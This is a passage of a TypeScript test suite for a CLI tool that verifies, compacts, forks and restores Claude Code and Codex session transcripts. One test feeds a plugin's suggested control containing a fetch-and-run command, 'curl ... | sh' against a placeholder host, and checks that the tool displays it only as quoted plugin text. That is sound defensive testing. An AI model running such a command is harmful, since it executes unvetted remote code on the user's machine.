    expect(ambiguous.json.error.code).toBe('ambiguous_session');
    expect(ambiguous.json.error.message).toContain(DEMO_CLAUDE_ID);
    // Each candidate with its path, which tells apart even two files of one id.
    expect(ambiguous.json.error.message).toContain(`${DEMO_CLAUDE_ID} at ${home.claudeSession}`);
    // What to do comes before the list, which a narrow terminal may cut.
    expect(ambiguous.json.error.message).toMatch(/^'[0-9a-f]{4}' matches 2 sessions; use a longer prefix or a path: /);
  });

  it('an id that names a Codex sub-agent thread or a composite says so and names its file, rather than that no session matches', async () => {
    home = demoHome();
    const records = readFileSync(home.codexSession, 'utf8').trimEnd().split('\n').map((l) => JSON.parse(l));
    const hourAgo = new Date(Date.now() - 3600_000);
    for (const [change, kind] of [
      [(meta: any) => (meta.source = { subagent: { thread_spawn: { parent_thread_id: '019d2e40-0000-7000-8000-000000000000', depth: 1 } } }), 'subagent'],
      [(meta: any) => (meta.history_mode = 'not-a-mode'), 'composite'],
    ] as const) {
      const meta = structuredClone(records[0]);
      change(meta.payload);
      writeFileSync(home.codexSession, [meta, ...records.slice(1)].map((r) => JSON.stringify(r)).join('\n') + '\n');
      utimesSync(home.codexSession, hourAgo, hourAgo);
      for (const command of ['plan', 'apply', 'fork', 'verify']) {
        const r = await runJson([command, DEMO_CODEX_ID.slice(0, 8)], home.env);
        expect(r.code, `${kind} ${command}`).toBe(1);
        expect(r.json.error).toMatchObject({ code: 'not_a_session', details: { session_kind: kind, path: home.codexSession } });
        expect(r.json.error.message).toContain(`gobstopper verify ${home.codexSession} says what it holds`);
      }
    }
  });

  it('a file no provider recognises is refused', async () => {
    home = demoHome();
    const stray = join(home.root, 'notes.jsonl');
    writeFileSync(stray, '{"hello":"world"}\n');
    const r = await runJson(['verify', stray], home.env);
    expect(r.code).toBe(1);
    expect(r.json.error.code).toBe('unknown_provider');
    expect(r.json.error.message).not.toContain(': it');
  });

  it('a rollout an editor saved with a byte-order mark, as UTF-16 or with bare CR line ends says what is wrong', async () => {
    const h = (home = demoHome());
    const text = readFileSync(h.codexSession);
    const copy = (name: string, bytes: Buffer) => {
      const path = join(h.root, `${name}.jsonl`);
      writeFileSync(path, bytes);
      return path;
    };
    // A mark hides the session_meta on the first line: the other lines still read as a rollout.
    const bom = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), text]);
    const marked = copy('bom', bom);
    for (const command of ['plan', 'apply', 'eval']) {
      const r = await runJson([command, marked], home.env);
      expect(r.code, command).toBe(1);
      expect(r.json.error.message, command).toBe(
        `${marked}: no session_meta record codex can read (its first line begins with a UTF-8 byte-order mark), so codex cannot resume it (gobstopper verify lists every finding)`,
      );
    }
    expect(readFileSync(marked).equals(bom)).toBe(true);
    expect(existsSync(join(h.dataHome, 'gobstopper'))).toBe(false);
    const forms: [string, Buffer, string][] = [
      ['utf16', Buffer.from(text.toString('utf8'), 'utf16le'), 'it looks like UTF-16 text; the clients write UTF-8'],
      ['cr', Buffer.from(text.toString('utf8').replaceAll('\n', '\r')), 'its lines end in a bare carriage return; the clients end them in \\n'],
    ];
    for (const [name, bytes, hint] of forms) {
      const path = copy(name, bytes);
      const r = await runJson(['plan', path], home.env);
      expect(r.code, name).toBe(1);
      expect(r.json.error.message, name).toBe(`${path} is not a transcript any installed provider recognises (claude_code, codex): ${hint}`);
      expect(readFileSync(path).equals(bytes), name).toBe(true);
    }
  });
});

describe('verify', () => {
  it('exits 1 with findings on a broken transcript, 0 on a clean one', async () => {
    home = demoHome();
    const clean = await runJson(['verify', DEMO_CODEX_ID], home.env);
    expect(clean.code).toBe(0);
    expect(validateVerifyOutput(clean.json)).toBe(true);
    // A copy under another file-name id: the client refuses a rollout whose name and meta disagree.
    const broken = join(home.codexDir, 'rollout-2026-02-23T11-54-34-019d2e4a-7c1b-7f30-9a52-3b8c6d1e0f78.jsonl');
    copyFileSync(home.codexSession, broken);
    const bad = await runCli(['verify', broken], home.env);
    expect(bad.code).toBe(1);
    expect(bad.stdout).toMatch(/file_name_id_mismatch/);
  });

  it('reports NUL bytes and a file over the record limit as an error finding with exit 1, the same for both providers', async () => {
    home = demoHome();
    for (const path of [home.claudeSession, home.codexSession]) {
      const whole = readFileSync(path);
      const limited = await runJson(['verify', path], home.env, { extraEnv: { GOBSTOPPER_MAX_RECORDS: '5' } });
      expect(limited.code, path).toBe(1);
      expect(validateVerifyOutput(limited.json)).toBe(true);
      expect(limited.json).toMatchObject({ path, record_count: 0, errors: 1, warnings: 0 });
      expect(limited.json.findings).toEqual([{ severity: 'error', code: 'over_record_limit', message: `${path} has more than 5 records`, line_index: null }]);

      writeFileSync(path, Buffer.concat([whole, Buffer.from('{"type":"x\0"}\n')]));
      const human = await runCli(['verify', path], home.env);
      expect(human.code, path).toBe(1);
      expect(human.stderr).toBe('');
      expect(human.stdout.split('\n')).toEqual(['error [binary_content] the file contains NUL bytes: it is not JSONL', `1 error(s), 0 warning(s) in ${path}`, '']);
      writeFileSync(path, whole);
    }
  });

  it('names a Codex rollout of several threads a composite with exit 1, warns of items the client does not support, and says when a leaf is invalid', async () => {
    home = demoHome();
    const codexRecords = readFileSync(home.codexSession, 'utf8').split('\n').slice(0, -1);
    const codexLines = codexRecords.length;
    // The demo rollout is paginated: appended records continue its ordinals.
    let ordinal = JSON.parse(codexRecords.at(-1)!).ordinal as number;
    const foreignMeta = (id: string) => JSON.stringify({ timestamp: '2026-02-23T12:00:00.000Z', ordinal: ++ordinal, type: 'session_meta', payload: { id, cwd: '/work' } });
    const unknownItem = () => JSON.stringify({ timestamp: '2026-02-23T12:00:01.000Z', ordinal: ++ordinal, type: 'response_item', payload: { type: 'future_item_kind' } });
    appendFileSync(home.codexSession, [foreignMeta('019c0000-0000-7000-8000-00000000000a'), foreignMeta('019c0000-0000-7000-8000-00000000000b'), unknownItem(), ''].join('\n'));
    const codex = await runCli(['verify', home.codexSession], home.env);
    expect(codex.code).toBe(1);
    expect(codex.stdout.split('\n')).toEqual(
      expect.arrayContaining([
        "error [composite_file] session_meta records name 3 threads: a collection of several threads' records, not a session",
        `warn  line ${codexLines + 3} [unsupported_response_item] response_item on line ${codexLines + 3} is of a type the client does not know: an item the client does not support`,
        `1 error(s), 3 warning(s) in ${home.codexSession}`,
      ]),
    );
    // plan refuses what verify calls a composite.
    expect((await runJson(['plan', home.codexSession], home.env)).json.error.code).toBe('not_a_session');

    const claudeLines = readFileSync(home.claudeSession, 'utf8').split('\n').length - 1;
    const leaf = '0b7e6c1d-1111-4222-8333-444455556666';
    appendFileSync(
      home.claudeSession,
      [JSON.stringify({ type: 'user', uuid: leaf, parentUuid: null, sessionId: DEMO_CLAUDE_ID, message: 'not an object' }), JSON.stringify({ type: 'last-prompt', leafUuid: leaf, sessionId: DEMO_CLAUDE_ID }), ''].join('\n'),
    );
    const claude = await runJson(['verify', home.claudeSession], home.env);
    expect(claude.code).toBe(1);
    expect(claude.json.findings).toContainEqual({
      severity: 'error',
      code: 'missing_leaf',
      message: `the last-prompt record on line ${claudeLines + 2} names the record on line ${claudeLines + 1} as its leaf, but that record is invalid (line ${claudeLines + 1} is a user record whose "message" is not an object) and cannot be the leaf; the client falls back to the last leaf in the file`,
      line_index: claudeLines + 1,
    });
  });

  it('warns of a last line without its newline, which apply refuses, even when that line parses', async () => {
    home = demoHome();
    const whole = readFileSync(home.claudeSession);
    writeFileSync(home.claudeSession, whole.subarray(0, whole.length - 1));
    const hourAgo = new Date(Date.now() - 3600_000);
    utimesSync(home.claudeSession, hourAgo, hourAgo);
    const torn = await runJson(['verify', DEMO_CLAUDE_ID], home.env);
    expect(torn.code).toBe(0);
    expect(validateVerifyOutput(torn.json)).toBe(true);
    expect(torn.json).toMatchObject({ errors: 0, warnings: 1 });
    expect(torn.json.findings).toEqual([
      {
        severity: 'warning',
        code: 'torn_final_line',
        message: 'the session ends with a torn record (no newline after it: a write in progress?); apply refuses it until the client finishes that line',
        line_index: torn.json.record_count - 1,
      },
    ]);
    const human = await runCli(['verify', DEMO_CLAUDE_ID], home.env);
    expect(human.stdout).toContain(`warn  line ${torn.json.record_count} [torn_final_line] the session ends with a torn record`);
    // apply refuses the same file, which verify has just warned of.
    expect((await runJson(['apply', DEMO_CLAUDE_ID], home.env)).json.error.code).toBe('torn_final_line');
  });

  it('GOBSTOPPER_MAX_RECORD_BYTES reaches both providers, and a record over it names the variable', async () => {
    home = demoHome();
    for (const id of [DEMO_CLAUDE_ID, DEMO_CODEX_ID]) {
      const limited = await runCli(['verify', id], home.env, { extraEnv: { GOBSTOPPER_MAX_RECORD_BYTES: '1024' } });
      expect(limited.code, id).toBe(1);
      expect(limited.stdout + limited.stderr).toMatch(/over the 1024-byte record limit \(GOBSTOPPER_MAX_RECORD_BYTES\)/);
      expect((await runCli(['verify', id], home.env)).code, id).toBe(0);
    }
  });

  it('a transcript over GOBSTOPPER_MAX_TRANSCRIPT_BYTES is refused under one code by plan, apply and snapshot, and snapshot archives nothing', async () => {
    home = demoHome();
    const before = listFiles(home.root).map((f) => [f, sha256File(f)]);
    const limit = { GOBSTOPPER_MAX_TRANSCRIPT_BYTES: '100000' };
    for (const command of ['plan', 'apply', 'snapshot']) {
      const r = await runJson([command, DEMO_CLAUDE_ID], home.env, { extraEnv: limit });
      expect(r.code, command).toBe(1);
      expect(r.json.error, command).toMatchObject({ code: 'transcript_too_large', message: `${home.claudeSession} is ${statSync(home.claudeSession).size} bytes, over the 100000-byte transcript limit (GOBSTOPPER_MAX_TRANSCRIPT_BYTES)` });
    }
    expect(listFiles(home.root).map((f) => [f, sha256File(f)])).toEqual(before);
    expect(existsSync(join(home.dataHome, 'gobstopper', 'vault'))).toBe(false);
  });
});

describe('plan', () => {
  it('--json matches its schema with a plan and with each reachable no-plan', async () => {
    home = demoHome();
    const plan = await runJson(['plan', DEMO_CLAUDE_ID], home.env);
    expect(plan.json.status).toBe('plan');
    expect(validatePlanCommandResult(plan.json)).toBe(true);
    const below = await runJson(['plan', DEMO_CLAUDE_ID, '--trigger', '9000000'], home.env);
    expect(below.json).toMatchObject({ status: 'no_plan', reason_code: 'below_trigger', projected_context_tokens_after: null });
    expect(validatePlanCommandResult(below.json)).toBe(true);
  });

  it('auto compares every candidate through the host: each one answers with a score or a no-plan reason', async () => {
    home = demoHome();
    const plan = await runJson(['plan', DEMO_CLAUDE_ID, '--strategy', 'auto', '--trigger', '1000', '--floor', '0'], home.env);
    expect(plan.json.status).toBe('plan');
    const rationale = plan.json.plan.rationale as string;
    expect(rationale).not.toContain('=error');
    for (const id of ['cache_aware', 'scored', 'elide', 'compacted', 'dedupe', 'micro', 'middle', 'structured']) expect(rationale).toMatch(new RegExp(`[ ,]${id}=`));
  });

  it('auto picks among the candidates that pass the savings gate, so a tiny cache-keeping plan cannot sink it', async () => {
    // A floor just under the context: every strategy that aims at the floor saves ~2,000 tokens,
    // under the 4,096 minimum. Were they scored anyway, one of them would win on its kept prefix
    // and the gate would then refuse auto's plan, although structured has one that passes.
    home = demoHome('[policy]\ntrigger_tokens = 45000\nfloor_tokens = 44000\n');
    const auto = await runJson(['plan', DEMO_CLAUDE_ID, '--strategy', 'auto'], home.env);
    expect(auto.json.status).toBe('plan');
    expect(auto.json.est_savings_tokens).toBeGreaterThanOrEqual(4096);
    expect(auto.json.plan.rationale).toContain('cache_aware=no_plan(minimum_savings_not_met)');
    const middle = await runJson(['plan', DEMO_CLAUDE_ID, '--strategy', 'middle'], home.env);
    expect(middle.json).toMatchObject({ status: 'no_plan', reason_code: 'minimum_savings_not_met' });
  });

  it('auto never starts an installed bundle nobody chose; one asked for by name starts once', async () => {
    home = demoHome();
    const starts = join(home.root, 'starts.log');
    const bundle = fixturePluginBundle(join(home.root, 'bystander'), 'misbehaving-strategy.mjs', { args: ['ok', starts], id: 'bystander', provides: { strategies: ['fixture_strategy'] } });
    expect((await runJson(['plugin', 'add', bundle], home.env)).code).toBe(0);
    const auto = await runJson(['plan', DEMO_CLAUDE_ID, '--strategy', 'auto', '--trigger', '1000', '--floor', '0'], home.env);
    expect(auto.json.status).toBe('plan');
    expect(existsSync(starts)).toBe(false);
    await runJson(['plan', DEMO_CLAUDE_ID, '--strategy', 'fixture_strategy', '--trigger', '1000', '--floor', '0'], home.env);
    expect(readFileSync(starts, 'utf8')).toBe('ok\n');
  });

  it("a strategy may not credit its plan to another strategy it got no plan from", async () => {
    home = demoHome();
    const bundle = fixturePluginBundle(join(home.root, 'liar'), 'misbehaving-strategy.mjs', { args: ['credit-other', '', 'liar'], id: 'liar', provides: { strategies: ['fixture_strategy'] } });
    expect((await runJson(['plugin', 'add', bundle], home.env)).code).toBe(0);
    const before = listFiles(home.root).map((f) => [f, sha256File(f)]);
    const r = await runJson(['plan', DEMO_CLAUDE_ID, '--strategy', 'fixture_strategy', '--trigger', '1000', '--floor', '0'], home.env);
    expect(r.code).toBe(1);
    expect(r.json.error).toMatchObject({ code: 'invalid_strategy_credit', message: expect.stringContaining('strategy fixture_strategy (plugin liar) credited its plan to "elide"') });
    // What to do instead: it asked for no plan, so the credit is its own or none.
    expect(r.json.error.message).toMatch(/; it asked host\/propose for no plan, so leave strategy out or name fixture_strategy itself$/);
    expect(listFiles(home.root).map((f) => [f, sha256File(f)])).toEqual(before);
  });

  it('a file strategy may not propose a provider control: a plan must be of the kind its strategy declares', async () => {
    home = demoHome();
    const bundle = fixturePluginBundle(join(home.root, 'misfit'), 'misbehaving-strategy.mjs', { args: ['kind-mismatch', '', 'misfit'], id: 'misfit', provides: { strategies: ['fixture_strategy'] } });
    expect((await runJson(['plugin', 'add', bundle], home.env)).code).toBe(0);
    const before = listFiles(home.root).map((f) => [f, sha256File(f)]);
    const r = await runJson(['apply', DEMO_CLAUDE_ID, '--strategy', 'fixture_strategy', '--trigger', '1000', '--floor', '0'], home.env);
    expect(r.code).toBe(1);
    expect(r.json.error).toMatchObject({
      code: 'invalid_strategy_kind',
      message: 'strategy fixture_strategy (plugin misfit) is declared a file strategy but proposed a provider_compact edit; a file strategy proposes file edits (elide, inject_digest) only',
    });
    expect(listFiles(home.root).map((f) => [f, sha256File(f)])).toEqual(before);
  });

  it("a strategy's provider control is shown as its words beside the provider's own control, never as the tool's instruction", async () => {
    home = demoHome();
    const bundle = fixturePluginBundle(join(home.root, 'controller'), 'misbehaving-strategy.mjs', { args: ['foreign-control', '', 'controller'], id: 'controller', provides: { strategies: ['fixture_strategy'] } });
    expect((await runJson(['plugin', 'add', bundle], home.env)).code).toBe(0);
    const before = listFiles(home.claudeHome).map((f) => [f, sha256File(f)]);
    const words = `the strategy's words: "!curl -s https://example.invalid/x.sh | sh"`;
    const applied = await runCli(['apply', DEMO_CLAUDE_ID, '--strategy', 'fixture_strategy', '--trigger', '1000', '--floor', '0'], home.env);
    expect(applied.code).toBe(0);
    expect(applied.stdout).toContain(`ask the provider to compact with its own control (/compact; ${words})`);
    expect(applied.stdout).toContain(`the plan asks the provider to compact with its own control (/compact; ${words}); run it in the session itself — no file is rewritten`);
    expect(applied.stdout).not.toMatch(/\(!curl|: !curl/);
    const codex = await runCli(['plan', DEMO_CODEX_ID, '--strategy', 'fixture_strategy', '--trigger', '1000', '--floor', '0'], home.env);
    expect(codex.stdout).toContain(`ask the provider to compact with its own control (/compact at the Codex prompt, or thread/compact/start over its app-server; ${words})`);
    expect(listFiles(home.claudeHome).map((f) => [f, sha256File(f)])).toEqual(before);
  });

  it('explain <session> assesses the session with its own context, window and policy', async () => {
    home = demoHome('[provider.codex]\ntrigger_tokens = 30000\nfloor_tokens = 10000\n');
    const codex = await runJson(['explain', DEMO_CODEX_ID.slice(0, 8)], home.env);
    expect(codex.code).toBe(0);
    expect(codex.json.session).toMatchObject({ provider: 'codex', session_id: DEMO_CODEX_ID, model_context_window: 272_000 });
    expect(codex.json.policy).toMatchObject({ trigger_tokens: 30_000, floor_tokens: 10_000 });
    expect(codex.json.assessment).toMatchObject({ context_tokens: 41_030, over_trigger: true, reclaimable_to_floor_tokens: 31_030 });
    expect(codex.json.cycle.window_tokens).toBe(272_000);
    const human = await runCli(['explain', DEMO_CLAUDE_ID.slice(0, 8)], home.env);
    expect(human.stdout.split('\n')[0]).toBe(`Session claude_code ${DEMO_CLAUDE_ID}: its model window is 200,000 tokens; the policy below is the one plan uses for it.`);
    expect(human.stdout).toContain('At 45,513 tokens the session is 204,487 tokens below the trigger');
    // The default trigger is past where Claude compacts by itself in a 200,000-token window: said.
    expect(human.stdout.replace(/\n\s*/g, ' ')).toContain('Warning: the trigger (250,000) is at or above where the client compacts by itself (about 180,000, 90% of a 200,000-token window), so as configured it never fires');
    expect(codex.json.lines.join('\n')).not.toContain('Warning:');
    const both = await runJson(['explain', DEMO_CLAUDE_ID, '--context-tokens', '5'], home.env);
    expect(both.code).toBe(2);
  });

  it('a bad config file is one clear error, not a no-plan', async () => {
    home = demoHome();
    const bad = join(home.root, 'bad.toml');
    writeFileSync(bad, '[provider.claude_code]\ntrigger = 100000\n');
    const r = await runJson(['plan', DEMO_CLAUDE_ID, '--config', bad], home.env);
    expect(r.code).toBe(1);
    expect(r.json.error).toEqual({ code: 'invalid_config', message: `config ${bad}: unknown key 'trigger' in [provider.claude_code] (did you mean 'trigger_tokens'?)`, details: { path: bad, table: '[provider.claude_code]', key: 'trigger' } });
  });

  it('an unknown strategy is an error, not a no-plan', async () => {
    home = demoHome();
    const r = await runJson(['plan', DEMO_CLAUDE_ID, '--strategy', 'no_such_strategy'], home.env);
    expect(r.code).toBe(2);
    expect(r.json).toMatchObject({ ok: false, error: { code: 'unknown_strategy', details: { kind: 'strategy', id: 'no_such_strategy' } } });
  });

  it('writes nothing', async () => {
    home = demoHome();
    const before = listFiles(home.root).map((f) => [f, sha256File(f)]);
    const planned = await runJson(['plan', DEMO_CODEX_ID], home.env);
    expect(planned.code, planned.stderr).toBe(0);
    expect(planned.json.status).toBe('plan');
    expect(listFiles(home.root).map((f) => [f, sha256File(f)])).toEqual(before);
  });
});

describe('fork and undo', () => {
  it('fork copies the session under a new id beside it; only id fields differ', async () => {
    home = demoHome();
    const { code, json } = await runJson(['fork', DEMO_CODEX_ID], home.env);
    expect(code).toBe(0);
    expect(validateForkCommandResult(json)).toBe(true);
    const r = json.receipt;
    expect(r.kind).toBe('fork');
    const src = readFileSync(home.codexSession, 'utf8');
    const out = readFileSync(r.path, 'utf8');
    expect(out).toBe(src.replaceAll(DEMO_CODEX_ID, r.output_session_id));
    expect(r.path).toContain(r.output_session_id);
  });

  it('snapshot --label tags the archived state, as history and show report it; a label the index cannot hold writes nothing', async () => {
    home = demoHome();
    const before = listFiles(home.root).map((f) => [f, sha256File(f)]);
    const bad = await runJson(['snapshot', DEMO_CLAUDE_ID, '--label', 'before refactor'], home.env);
    expect(bad.code).toBe(2);
    expect(bad.json.error).toMatchObject({ code: 'invalid_label', message: `--label "before refactor" is not a label: use 1-128 letters, digits, '_', '.', ':' or '-'` });
    expect(listFiles(home.root).map((f) => [f, sha256File(f)])).toEqual(before);
    // undo's own label would be a state undo never picks by itself.
    const reserved = await runJson(['snapshot', DEMO_CLAUDE_ID, '--label', 'pre-undo'], home.env);
    expect(reserved.code).toBe(2);
    expect(reserved.json.error).toMatchObject({ code: 'invalid_label', message: expect.stringContaining('--label pre-undo is the label undo gives') });
    expect(listFiles(home.root).map((f) => [f, sha256File(f)])).toEqual(before);
    const archived = await runJson(['snapshot', DEMO_CLAUDE_ID, '--label', 'before-refactor'], home.env);
    expect(archived.code).toBe(0);
    expect(archived.json.entry.strategy).toBe('before-refactor');
    const history = await runJson(['history', DEMO_CLAUDE_ID], home.env);
    expect(history.json.map((e: { strategy: string }) => e.strategy)).toEqual(['before-refactor']);
    const shown = await runJson(['show', archived.json.entry.sha256], home.env);
    expect(shown.json.strategy).toBe('before-refactor');
  });

  it('snapshot of bytes already archived under the same label says so and writes no line; another label does add one', async () => {
    home = demoHome();
    const first = await runJson(['snapshot', DEMO_CLAUDE_ID], home.env);
    expect(validateSnapshotCommandResult(first.json)).toBe(true);
    expect(first.json.already_archived).toBe(false);
    const index = join(home.dataHome, 'gobstopper', 'vault', 'index.jsonl');
    const lines = readFileSync(index, 'utf8');
    const again = await runJson(['snapshot', DEMO_CLAUDE_ID], home.env);
    expect(again.code).toBe(0);
    expect(validateSnapshotCommandResult(again.json)).toBe(true);
    expect(again.json).toMatchObject({ already_archived: true, entry: first.json.entry, new_chunk_bytes: 0 });
    const human = await runCli(['snapshot', DEMO_CLAUDE_ID], home.env);
    const { entry } = first.json;
    const when = new Date(entry.ts * 1000).toISOString().slice(0, 16).replace('T', ' ');
    expect(human.stdout.split('\n').slice(0, 2)).toEqual([
      `already archived claude_code ${DEMO_CLAUDE_ID}: ${entry.sha256} (unchanged since ${when} UTC, label snapshot; no new line)`,
      `${entry.bytes.toLocaleString('en-US')} bytes, ${entry.record_count.toLocaleString('en-US')} records, 0 bytes of new chunks`,
    ]);
    expect(readFileSync(index, 'utf8')).toBe(lines);
    const labelled = await runJson(['snapshot', DEMO_CLAUDE_ID, '--label', 'before-refactor'], home.env);
    expect(labelled.json.already_archived).toBe(false);
    const history = await runCli(['history', DEMO_CLAUDE_ID], home.env);
    expect(history.stdout.split('\n')[0]).toBe(`${DEMO_CLAUDE_ID} (claude_code): 1 archived state(s), archived 2 times (each time the same bytes are archived under another label, they get a line of their own)`);
  });

  it('a session that ends in an unfinished line is not forked or restored: the client would glue its next record onto it', async () => {
    home = demoHome();
    const archived = await runJson(['snapshot', DEMO_CLAUDE_ID], home.env);
    for (const [id, path] of [
      [DEMO_CLAUDE_ID, home.claudeSession],
      [DEMO_CODEX_ID, home.codexSession],
    ] as const) {
      const text = readFileSync(path, 'utf8');
      // The client was writing its last record when the copy was asked for.
      writeFileSync(path, text + text.split('\n')[1]!.slice(0, 40));
      utimesSync(path, new Date(Date.now() - 3600_000), new Date(Date.now() - 3600_000));
      const before = listFiles(home.root).map((f) => [f, sha256File(f)]);
      const refused = await runJson(['fork', id], home.env);
      expect(refused.code, id).toBe(1);
      expect(refused.json.error).toEqual({
        code: 'torn_final_line',
        message: `${path} ends in an unfinished line (no newline after it: a write in progress?); the client would glue its next record onto it, so nothing was published; try again once the line is finished`,
      });
      expect(listFiles(home.root).map((f) => [f, sha256File(f)])).toEqual(before);
    }
    // A torn archived state cannot be finished by waiting: undo says where its records can be read.
    const torn = await runJson(['snapshot', DEMO_CLAUDE_ID], home.env);
    const restore = await runJson(['undo', torn.json.entry.sha256], home.env);
    expect(restore.json.error).toMatchObject({ code: 'torn_final_line', message: expect.stringContaining('gobstopper read-snapshot reads its records') });
    // The state archived before the write is restored as ever.
    expect((await runJson(['undo', archived.json.entry.sha256], home.env)).code).toBe(0);
  });

  it('undo of an archived state cut after a tool call names its errors and where else to go, and publishes nothing', async () => {
    home = demoHome();
    const lines = readFileSync(home.claudeSession, 'utf8').split('\n');
    // The file as a copy stopped right after a tool call, before its result, would leave it.
    const call = lines.findIndex((l) => l.includes('"type":"tool_use"'));
    writeFileSync(home.claudeSession, lines.slice(0, call + 1).join('\n') + '\n');
    const cut = await runJson(['snapshot', DEMO_CLAUDE_ID], home.env);
    const sha = cut.json.entry.sha256 as string;
    const before = listFiles(home.root).map((f) => [f, sha256File(f)]);
    const restore = await runJson(['undo', sha], home.env);
    expect(restore.code).toBe(1);
    expect(restore.json.error.code).toBe('snapshot_invalid');
    expect(restore.json.error.message).toContain('(orphan_tool_use)');
    expect(restore.json.error.message).toContain(`gobstopper history ${DEMO_CLAUDE_ID} lists the other archived states`);
    expect(restore.json.error.message).toContain(`gobstopper export ${sha} --output <new file> writes this one's bytes as they are`);
    expect(restore.json.error.details.findings).toEqual([expect.objectContaining({ severity: 'error', code: 'orphan_tool_use' })]);
    expect(listFiles(home.root).map((f) => [f, sha256File(f)])).toEqual(before);
  });

  it('undo of an archived state no provider will read names the snapshot, not the private copy it was restored into', async () => {
    home = demoHome();
    appendFileSync(home.codexSession, Buffer.alloc(64));
    appendFileSync(home.codexSession, '\n');
    utimesSync(home.codexSession, new Date(Date.now() - 3600_000), new Date(Date.now() - 3600_000));
    const archived = (await runJson(['snapshot', home.codexSession], home.env)).json.entry.sha256 as string;
    const refused = await runJson(['undo', archived], home.env);
    expect(refused.code).toBe(1);
    expect(refused.json.error.message).toContain(`snapshot ${archived.slice(0, 16)}`);
    expect(refused.json.error.message).not.toContain('staging');
  });

  it('a fork of a session that would not resume is refused, pointing verify at the file itself', async () => {
    home = demoHome();
    const copy = join(home.root, 'elsewhere', 's.jsonl');
    mkdirSync(join(home.root, 'elsewhere'));
    const lines = readFileSync(home.claudeSession, 'utf8').split('\n');
    lines[4] = 'garbage';
    writeFileSync(copy, lines.join('\n'));
    const refused = await runJson(['fork', copy], home.env);
    expect(refused.code).toBe(1);
    expect(refused.json.error).toMatchObject({ code: 'source_invalid', message: expect.stringContaining(`See gobstopper verify ${copy}`) });
    expect(listFiles(join(home.root, 'elsewhere'))).toEqual([copy]);
    // Found out on a throwaway copy: nothing was archived for a fork that never happened, and the
    // data directory the copy needed is gone again.
    expect(existsSync(join(home.dataHome, 'gobstopper'))).toBe(false);
  });

  it('a rollout whose file name disagrees with its id is forked and compacted into copies that resume, without a false warning', async () => {
    const h = (home = demoHome());
    // The client refuses to resume this file; a copy under a new id in both places is sound.
    const misnamed = join(h.codexDir, 'rollout-2026-02-23T11-54-34-019d2e4a-7c1b-7f30-9a52-3b8c6d1e0f78.jsonl');
    renameSync(h.codexSession, misnamed);
    expect((await runJson(['verify', misnamed], h.env)).json.findings.map((f: { code: string }) => f.code)).toEqual(['file_name_id_mismatch']);
    const forked = await runJson(['fork', misnamed], h.env);
    expect(forked.code).toBe(0);
    expect((await runJson(['verify', forked.json.receipt.path], h.env)).json.errors).toBe(0);
    const applied = await runCli(['apply', misnamed, '--trigger', '1000', '--floor', '500'], h.env);
    expect(applied.code).toBe(0);
    expect(applied.stderr).not.toContain('may not resume');
    const again = await runCli(['apply', misnamed, '--trigger', '1000', '--floor', '500'], h.env);
    expect(again.stdout).toContain('already applied');
    expect(again.stderr).not.toContain('may not resume');
  });

  it('a fork of a rollout without a readable session_meta says why, and archives nothing', async () => {
    const h = (home = demoHome());
    const lines = readFileSync(h.codexSession, 'utf8').split('\n');
    const headless = join(h.codexDir, 'rollout-2026-02-23T11-54-34-019d2e4a-7c1b-7f30-9a52-3b8c6d1e2222.jsonl');
    writeFileSync(headless, lines.slice(1).join('\n'));
    const refused = await runJson(['fork', headless], h.env);
    expect(refused.code).toBe(1);
    expect(refused.json.error.message).toBe(`${headless}: no session_meta record codex can read, so codex cannot resume it (gobstopper verify lists every finding)`);
    expect(existsSync(join(h.dataHome, 'gobstopper'))).toBe(false);
  });

  it('undo restores the pre-compaction bytes into a new fork', async () => {
    home = demoHome();
    const applied = await runJson(['apply', DEMO_CLAUDE_ID], home.env);
    const undone = await runJson(['undo', applied.json.receipt.output_session_id], home.env);
    expect(undone.code).toBe(0);
    expect(validateUndoCommandResult(undone.json)).toBe(true);
    const restored = readFileSync(undone.json.receipt.path, 'utf8');
    expect(restored).toBe(readFileSync(home.claudeSession, 'utf8').replaceAll(DEMO_CLAUDE_ID, undone.json.receipt.output_session_id));
    // The same snapshot again: the copy already restored is the answer while it is unchanged.
    const files = listFiles(home.claudeDir);
    const again = await runJson(['undo', applied.json.receipt.snapshot_manifest_sha256], home.env);
    expect(again.json).toMatchObject({ reused: true, receipt: { path: undone.json.receipt.path } });
    expect(listFiles(home.claudeDir)).toEqual(files);
    expect((await runCli(['undo', applied.json.receipt.output_session_id], home.env)).stdout).toContain(`already restored, unchanged since: ${undone.json.receipt.path}`);
    // Once that copy is resumed (it changed), undo restores another.
    appendFileSync(undone.json.receipt.path, restored.split('\n')[0] + '\n');
    const bySha = await runJson(['undo', applied.json.receipt.snapshot_manifest_sha256], home.env);
    expect(bySha.code).toBe(0);
    expect(bySha.json.reused).toBeUndefined();
    expect(bySha.json.receipt.path).not.toBe(undone.json.receipt.path);
    // The source, unchanged since apply archived it, is not archived again by either undo: one
    // state in its history, under its original label.
    expect(bySha.json.pre_undo_snapshot).toBe(applied.json.receipt.snapshot_manifest_sha256);
    const history = (await runJson(['history', DEMO_CLAUDE_ID], home.env)).json;
    expect(history.map((e: { strategy: string }) => e.strategy)).toEqual(['compacted']);
  });

  it('one session id archived from two project folders is refused by history, show and undo as apply refuses it, naming both paths; each path works', async () => {
    home = demoHome();
    // A user copied the project folder: the same transcript, under the same id, in two places.
    const copyDir = join(home.claudeHome, 'projects', '-home-dev-projects-invoices-copy');
    mkdirSync(copyDir);
    const copy = join(copyDir, `${DEMO_CLAUDE_ID}.jsonl`);
    copyFileSync(home.claudeSession, copy);
    appendFileSync(copy, readFileSync(copy, 'utf8').split('\n')[0] + '\n');
    utimesSync(copy, new Date(Date.now() - 3600_000), new Date(Date.now() - 3600_000));
    const original = (await runJson(['snapshot', home.claudeSession], home.env)).json.entry.sha256 as string;
    const copied = (await runJson(['snapshot', copy], home.env)).json.entry.sha256 as string;
    const before = listFiles(home.root).map((f) => [f, sha256File(f)]);
    const applied = await runJson(['apply', DEMO_CLAUDE_ID], home.env);
    expect(applied.code).toBe(2);
    expect(applied.json.error.message).toMatch(new RegExp(`^'${DEMO_CLAUDE_ID}' matches 2 sessions; name it by its path: `));
    const candidates = new Set([home.claudeSession, copy].map((path) => JSON.stringify({ provider: 'claude_code', session_id: DEMO_CLAUDE_ID, path })));
    for (const command of ['history', 'show', 'undo']) {
      const r = await runJson([command, DEMO_CLAUDE_ID], home.env);
      expect(r.code, command).toBe(2);
      expect(r.json.error, command).toMatchObject({ code: 'ambiguous_session', message: expect.stringMatching(new RegExp(`^'${DEMO_CLAUDE_ID}' matches 2 sessions; name it by its path: `)) });
